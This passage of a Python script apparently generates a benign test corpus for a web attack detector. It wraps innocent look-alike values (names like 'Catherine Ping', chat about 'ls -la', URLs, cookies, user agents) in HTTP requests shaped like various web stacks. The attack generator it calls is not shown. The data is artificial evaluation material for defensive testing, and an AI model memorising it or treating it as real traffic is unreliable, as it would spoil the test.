    "cat", "Catherine Ping", "id card", "ls", "Ed Wood", "sh", "Powers Hell", "for rent", "if only",
    "alias", "history", "passwd reset", "etc", "web config", "env vars", "Tom & Jerry", "R&D | Ops",
    "Smith; Jones", "O'Neil", "d'Artagnan", "10 Downing St", "\u00c9lodie Dupont", "Jos\u00e9 M\u00fcller",
    "who am I", "dir", "net users", "type", "start", "find", "sort", "tail", "head", "less", "more",
    "nc state", "wget", "curl hair", "echo", "printf", "tar", "zip", "ping pong", "telnet", "ftp",
    "http", "https://example.com", "ftp.example.org", "mail from", "rcpt", "helo", "select", "fetch",
    "list", "retr", "user", "dele", "stat", "top", "shell", "bash", "zsh", "perl", "python", "ruby",
    "node", "java", "go", "iis", "apache", "tomcat", "nginx", "../", "docs/guide", "a|b", "x & y",
    "$100", "50%", "(555) 123-4567", "{draft}", "[urgent]", "~home",
]
PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc9051",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://github.com/acme/deploy/blob/main/scripts/backup.sh",
    "https://example.com/downloads/report-2024.pdf",
    "https://cdn.example.org/assets/app.js?v=4.2.1",
    "https://docs.example.com/guide/../api/index.html",
    "https://status.example.com/incidents/2024-05-02",
    "https://www.example.co.uk/shop?category=tools&page=2",
    "http://example.com/",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Cat_(Unix)",
    "https://stackoverflow.com/questions/tagged/bash",
    "https://wiki.example.com/display/OPS/Runbook+-+restart+workers",
    "https://calendar.example.com/event?id=12345&tz=Europe/Paris",
    "https://maps.example.com/?q=10+Downing+St,+London",
]
PROSE = [
    "Please cat-sit for me this weekend; the food is in the cupboard",
    "Our history department runs the alias project for old street names",
    "If it rains, for sure the picnic moves indoors",
    "Type your name, then press Start to begin the survey",
    "The shell company was dissolved in 2019; see the attached report",
    "Path to success: practice, patience, and a good coach",
    "Net income rose 5% (year over year); dir. of finance to comment",
    "Echo chamber effects in social media, a short essay",
    "The cmd key on a Mac is the same as Ctrl on Windows",
    "Ed & Ann's wedding: RSVP by 1 June | dress code: smart casual",
    "Sergeant Ping reported at 10:30; the id badge was lost",
    "Mail from the bank said the card expires soon",
    "The quick brown fox jumps over the lazy dog; then it sleeps",
    "Tail of the comet was visible from the hill at 9 pm",
    "Select the top three candidates and list them by score",
    "The root of the problem was a missing approval step",
    "Dear team, the file 'Q3 results.xlsx' is on the shared drive",
    "Find the difference between 3/4 and 2/3 (show your work)",
    "Whoami is the name of our pub quiz team this year",
    "Use the password manager; never email passwords",
]
PROFILES = [
    {"name": "Catherine Lsowski", "title": "SRE", "department": "Platform", "bio": "I cat logs and ping hosts"},
    {"name": "Ed Shaw", "title": "Shell scripting trainer", "department": "Learning", "bio": "bash, zsh and fish"},
    {"name": "Alias Grace", "title": "Historian", "department": "Research", "bio": "history of Unix shells"},
    {"name": "Tom Powers", "title": "Windows admin", "department": "IT", "bio": "PowerShell and IIS since 2009"},
    {"name": "Ana Etc\u00e9tera", "title": "Designer", "department": "Brand", "bio": "fonts, colours, etc."},
    {"name": "Ping Li", "title": "Network engineer", "department": "NetOps", "bio": "BGP, DNS, and ping tests"},
    {"name": "Dee Dee", "title": "Support", "department": "Customer", "bio": "IMAP and POP3 mailbox help"},
    {"name": "Sam Curl", "title": "Developer", "department": "API", "bio": "curl, wget, httpie fan"},
    {"name": "Jo Tail", "title": "Analyst", "department": "Data", "bio": "sqlite on my laptop, Snowflake at work"},
    {"name": "Nic Sed", "title": "Editor", "department": "Docs", "bio": "find and replace enthusiast"},
    {"name": "Ren For", "title": "Accountant", "department": "Finance", "bio": "if it adds up, it ships"},
    {"name": "Hal Env", "title": "Ops", "department": "Platform", "bio": "twelve-factor config, no .env in git"},
    {"name": "Ivy Shellshock", "title": "Security", "department": "AppSec", "bio": "patching since 2014"},
    {"name": "Kim Web", "title": "Webmaster", "department": "Marketing", "bio": "web.config and .htaccess keeper"},
    {"name": "Lou Ftp", "title": "Archivist", "department": "Records", "bio": "ftp://archive.example.org is ours"},
    {"name": "Max Smtp", "title": "Mail admin", "department": "IT", "bio": "MAIL FROM, RCPT TO, DATA: my life"},
    {"name": "Noor Dir", "title": "Director", "department": "Ops", "bio": "dir of ops; runs the weekly review"},
    {"name": "Ola Root", "title": "Gardener", "department": "Facilities", "bio": "root vegetables and herbs"},
    {"name": "Pia Select", "title": "Recruiter", "department": "People", "bio": "select, interview, hire"},
    {"name": "Raj Id", "title": "Identity lead", "department": "IAM", "bio": "id tokens and SSO"},
]
ADDRESSES = [
    "10 Downing St; London SW1A 2AA", "1600 Amphitheatre Pkwy | Mountain View, CA", "Rue de la Paix 5, Paris",
    "Flat 3/4, 12 Shell Rd, Leeds", "PO Box 100 & 101, Austin TX", "Av. Paulista, 1000 - S\u00e3o Paulo",
    "Unit #7 (rear), 22 Cat Lane, Bristol", "Hauptstra\u00dfe 1, 10115 Berlin", "2-1-1 Nihonbashi, Tokyo",
    "C/ Mayor 10, 2\u00ba izq., Madrid",
]
UPLOAD_NAMES = [
    "report-2024-q3.pdf", "passwd-policy.pdf", "web-config-notes.docx", "env-setup-guide.md", "htaccess-howto.txt",
    "team photo.jpg", "budget (final).xlsx", "cat.png", "shell-scripting-101.pdf", "powershell-cheatsheet.pdf",
    "history_of_unix.epub", "alias-list.csv", "config-diagram.png", "settings-screenshot.png", "bash-tips.txt",
    "Windows FOR loops.pdf", "smtp-relay-setup.pdf", "imap-migration-plan.docx", "pop3-sunset.pptx",
    "etc-hosts-explained.md", "CV - Jos\u00e9 M\u00fcller.pdf", "contract_v2 (signed).pdf", "invoice #123.pdf",
    "sqlite-export.csv", "ls-output.txt",
]
USER_AGENTS = [
    BROWSER_UA,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 "
    "Edg/126.0.0.0",
    "curl/8.5.0", "Wget/1.21.4", "python-requests/2.32.3", "PowerShell/7.4.2", "okhttp/4.12.0", "Go-http-client/2.0",
    "axios/1.7.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Java/17.0.11", "Ruby",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)", "Slackbot-LinkExpanding 1.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "HTTPie/3.2.2",
]
REFERERS = [
    "https://app.example.com/admin/users", "https://app.example.com/admin/users?q=cat&page=2",
    "https://www.google.com/", "https://duckduckgo.com/?q=bash+for+loop", "https://app.example.com/me/settings",
    "https://docs.example.com/guide/shell/aliases#history", "https://intranet.example.com/wiki/PowerShell",
    "https://app.example.com/admin/users/search?q=Tom+%26+Jerry", "https://github.com/acme/api/pull/482",
    "https://app.example.com/reports/2024/q3?tab=etc",
]
COOKIES = [
    "theme=dark", "lang=en-GB", "tz=Europe/London", "sidebar=collapsed", "last_search=cat%20food",
    "recent=alias%2Chistory%2Cshell", "locale=pt-BR", "consent=analytics%7Cads", "pref_view=list", "font=mono",
]
SETTINGS = [
    ("display_name", "Ed (on call)"), ("signature", "Sent from my shell, pardon the typos"),
    ("timezone", "America/New_York"), ("notify", "mail, slack & sms"), ("status", "in a meeting | back at 3"),
    ("website", "https://ed.example.dev/blog/bash-history"), ("bio", "I write about PowerShell and IIS"),
    ("location", "Cat Island, Bahamas"), ("pronouns", "he/him"), ("phone", "+44 (0)20 7946 0958"),
    ("nickname", "ping"), ("skills", "bash; zsh; pwsh; cmd"), ("hobbies", "for fun: if/else puzzles"),
    ("email_footer", "-- \nAnn | Ops | ext. 4411"), ("title", "Director, R&D"),
]
XML_NOTES = [
    "cat and dog owners' survey", "Ping test results attached", "History of the id card scheme",
    "Shell Oil contract renewal", "PowerShell training, room 4", "For/if logic in the tax form",
    "The alias of the author is Mark Twain", "Mail from HR: RCPT of forms", "Web config review meeting",
    "Report for dir. of sales",
]
OAUTH_CODES = ["SplxlOBeZQQYbYS6WxSbIA", "4/0AX4XfWh-cat_id", "Zm9vYmFyYmF6", "af0ifjsldkj-ls", "ping.pong.123"]


def _browser(method: str, uri: str, body: str, extra: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": browser_headers(extra)}


def shaped(value: str, i: int) -> dict[str, Any]:
    """An innocent value carried the way one of the stacks carries parameters (arrays, nested keys, lists,
    matrix parameters, ViewState-like fields), on our routes."""
    shape = i % 8
    if shape == 0:   # PHP array parameters
        qs = urllib.parse.urlencode([("tags[]", value), ("tags[]", "team"), ("opts[sort]", "name")])
        return _browser("GET", f"/api/users?{qs}", "")
    if shape == 1:   # Java matrix parameter
        qs = urllib.parse.urlencode([("q", value), ("page", "1")], quote_via=urllib.parse.quote)
        return _browser("GET", f"/api/users;jsessionid={hexs(32).upper()}?{qs}", "")
    if shape == 2:   # ASP.NET form with ViewState-like fields
        body = urllib.parse.urlencode([("csrf_token", tok()), ("__VIEWSTATE", "/wEPDwUKLTI2" + tok(40)),
                                       ("__EVENTVALIDATION", "/wEdAAO" + tok(30)),
                                       ("ctl00$MainContent$TxtSearch", value)])
        return _browser("POST", "/admin/users/search", body, {"Content-Type": "application/x-www-form-urlencoded"})
    if shape == 3:   # Express qs nested objects
        qs = urllib.parse.urlencode([("filter[where][name]", value), ("filter[limit]", "20")])
        return _browser("GET", f"/api/users?{qs}", "")
    if shape == 4:   # Django / Flask lists
        return _browser("POST", "/api/users", json.dumps({"names": ["Ann", value], "page": 1}, ensure_ascii=False),
                        {"Content-Type": "application/json"})
    if shape == 5:   # Rails nested params
        body = urllib.parse.urlencode([("csrf_token", tok()), ("utf8", "\u2713"), ("user[name]", value),
                                       ("user[role]", "member")])
        return _browser("POST", "/me/settings", body, {"Content-Type": "application/x-www-form-urlencoded"})
    if shape == 6:   # nested JSON keys
        doc = {"profile": {"display": {"nickname": value}}, "notify": {"email": True}}
        return _browser("PATCH", "/api/users/42", json.dumps(doc, ensure_ascii=False),
                        {"Content-Type": "application/json"})
    body, ctype = multipart([("csrf_token", tok()), ("user[note]", value)])
    return _browser("POST", "/api/users/42/avatar", body, {"Content-Type": ctype})


MORE_CHAT = [
    "the cat /proc/cpuinfo output is in the ticket, 16 cores",
    "run `ls -la` in the release folder and check the owner",
    "if you ping the gateway from the VPN it times out, known issue",
    "can we alias the old hostname to the new load balancer?",
    "history says the index was dropped on Tuesday, restoring now",
    "for the demo we use the sqlite file, not the real database",
    "mail from the monitoring system goes to ops@, RCPT list updated",
    "the IMAP folder sync takes a while for big mailboxes",
    "IIS logs are under C:\\inetpub\\logs\\LogFiles, for the Windows box",
    "the PowerShell module for Exchange needs an update",
    "the shell prompt shows the git branch, nice touch",
    "whoever owns the cron for backups, it ran twice last night",
    "the id of the Slack channel changed after the rename",
    "`du -sh` says the uploads folder is 40G, time to clean up",
    "Type `help` in the bot DM to get the list of commands",
    "we moved the .env values into the secret manager last sprint",
    "Ed's PR touches the web.config only, quick review please",
    "the upload of settings.php was for the Drupal staging, not prod",
    "the bash for loop over the hosts file is in the runbook",
    "echo the variable before the if, then you'll see it's empty",
]


def benign() -> Iterator[dict[str, Any]]:
    rng.seed(122)
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    searches = []
    for i, q in enumerate(SEARCHES):
        qs = urllib.parse.urlencode([("q", q), ("page", str(i % 5 + 1)), ("per_page", ["20", "50", "100"][i % 3])],
                                    quote_via=urllib.parse.quote)
        searches.append(_browser("GET", f"/api/users?{qs}", ""))
        body = urllib.parse.urlencode([("csrf_token", tok()), ("q", q)])
        searches.append(_browser("POST", "/admin/users/search", body,
                                 {"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}))
    n = yield from numbered(searches, f"{NAME}-search", n, "mixed")
    profiles = []
    for i, prof in enumerate(PROFILES):
        doc = {**prof, "email": f"user{i}@example.org", "address": ADDRESSES[i % len(ADDRESSES)]}
        profiles.append(_browser("POST", "/api/users", json.dumps(doc, ensure_ascii=False),
                                 {"Content-Type": "application/json"}))
        profiles.append(_browser("PATCH", f"/api/users/{40 + i}", json.dumps({"address": ADDRESSES[(i + 3) % 10],
                                 "title": prof["title"]}, ensure_ascii=False), {"Content-Type": "application/json"}))
    n = yield from numbered(profiles, f"{NAME}-profile", n, "json")
    uploads = []
    for i, fname in enumerate(UPLOAD_NAMES):
        body, ctype = multipart([("csrf_token", tok()), ("description", SEARCHES[i])],
                                ("file", fname, "plain text content of the upload"))
        uploads.append(_browser("POST", "/admin/users/import" if i % 2 else "/api/users/42/attachments", body,
                                {"Content-Type": ctype}))
    n = yield from numbered(uploads, f"{NAME}-upload", n, "multipart")
    heads = []
    for i, ua in enumerate(USER_AGENTS):
        heads.append(_browser("GET", f"/api/users?page={i % 4 + 1}", "", {"User-Agent": ua}))
    for i, ref in enumerate(REFERERS):
        heads.append(_browser("GET", f"/api/users/{i + 1}", "", {"Referer": ref}))
    for c in COOKIES:
        heads.append(_browser("GET", "/api/users?page=1", "", {"Cookie": f"session={tok(32)}; consent=1; {c}"}))
    n = yield from numbered(heads, f"{NAME}-header", n, "header")
    settings = []
    for key, value in SETTINGS:
        body = urllib.parse.urlencode([("csrf_token", tok()), (key, value)])
        settings.append(_browser("POST", "/me/settings", body, {"Content-Type": "application/x-www-form-urlencoded"}))
        settings.append(_browser("PATCH", "/api/users/42", json.dumps({key: value}, ensure_ascii=False),
                                 {"Content-Type": "application/json"}))
    n = yield from numbered(settings, f"{NAME}-settings", n, "mixed")
    xml_docs = []
    for note in XML_NOTES:
        xml_docs.append(_browser("POST", "/api/users", f"<?xml version=\"1.0\"?><user><name>Ann</name><note>"
                                                      f"{escape(note)}</note></user>",
                                 {"Content-Type": "application/xml"}))
    n = yield from numbered(xml_docs, f"{NAME}-xml", n, "xml")
    oauth = []
    for code in OAUTH_CODES:
        body = urllib.parse.urlencode([("grant_type", "authorization_code"), ("code", code),
                                       ("redirect_uri", "https://app.example.com/cb"), ("code_verifier", tok(43))])
        oauth.append({"method": "POST", "uri": "/oauth/token", "body": body,
                      "headers": {"User-Agent": "python-httpx/0.27.0",
                                  "Content-Type": "application/x-www-form-urlencoded"}})
    n = yield from numbered(oauth, f"{NAME}-oauth", n, "form")
    n = yield from numbered((shaped(v, i) for i, v in enumerate(SEARCHES + [p["bio"] for p in PROFILES] + PROSE
                                                                  + UPLOAD_NAMES + ADDRESSES)),
                            f"{NAME}-shaped", n, "mixed")
    extra_chat = [f"{text} (re: {q})" for text, q in zip(PROSE, SEARCHES[20:40], strict=True)] + MORE_CHAT
    yield from chat_and_bio(extra_chat, f"{NAME}-more")


if __name__ == "__main__":
    print_records(attacks(), benign())
